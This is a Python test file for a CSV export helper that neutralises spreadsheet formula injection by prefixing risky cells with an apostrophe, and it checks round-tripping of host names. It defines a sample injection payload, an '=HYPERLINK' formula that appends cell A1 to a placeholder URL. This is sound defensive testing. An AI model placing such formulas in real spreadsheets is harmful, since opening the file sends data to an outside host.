"""CSV text: values, quotes, and no cell that a spreadsheet reads as a formula."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import numpy as np
from hypothesis import example, given
from hypothesis import strategies as st

from ingest.formats.fabrics import links_csv
from ingest.formats.placements import placement_csv
from ingest.generate.tori import torus
from mapping.launchers.catalog import write as write_placement
from registry.csv_text import csv_text, guarded, without_guard
from registry.exports.catalog import write
from registry.model import Allocation, Placement
from tests.support.inputs import parse

FORMULA = '=HYPERLINK("http://a.example"&A1)'


def test_numbers_stay_numbers_commas_are_quoted_and_a_formula_is_written_as_text() -> None:
    assert csv_text(["a", "b"], [(-1, "x,y"), (-2.5, None)]) == 'a,b\n-1,"x,y"\n-2.5,\n'
    names = [FORMULA, "+1", "-1", "@SUM(1)", "\t=1", "\r=1"]
    rows = list(csv.reader(io.StringIO(csv_text(["name"], [[name] for name in names]), newline="")))
    assert rows == [["name"], *(["'" + name] for name in names)]


@given(st.text("='+-@\tab", max_size=6))
@example("'=a")
def test_the_apostrophe_is_taken_off_again(text: str) -> None:
    assert not str(guarded(text)).startswith(("=", "+", "-", "@", "\t", "\r"))
    assert without_guard(guarded(text)) == text


def test_fabrics_and_placements_with_such_names_read_back() -> None:
    names = (FORMULA, "-h1", "'=h2", "h3")
    ring = replace(torus([4]), names=names)
    fabric = parse(links_csv, write("csv", ring)).fabric
    assert fabric is not None
    assert sorted(fabric.names) == sorted(names)
    allocation = Allocation.of(ring, names)
    placement = Placement(
        host_of_rank=np.array([3, 2, 0, 1], np.int32), allocation=allocation, strategy="given"
    )
    text = write_placement("csv", placement, ring)
    assert [row[1] for row in csv.reader(text.splitlines())] == ["host", "h3", "''=h2", "'" + FORMULA, "'-h1"]
    placed = parse(placement_csv, text).placements[0]
    assert placed.hosts == ("h3", "'=h2", FORMULA, "-h1")
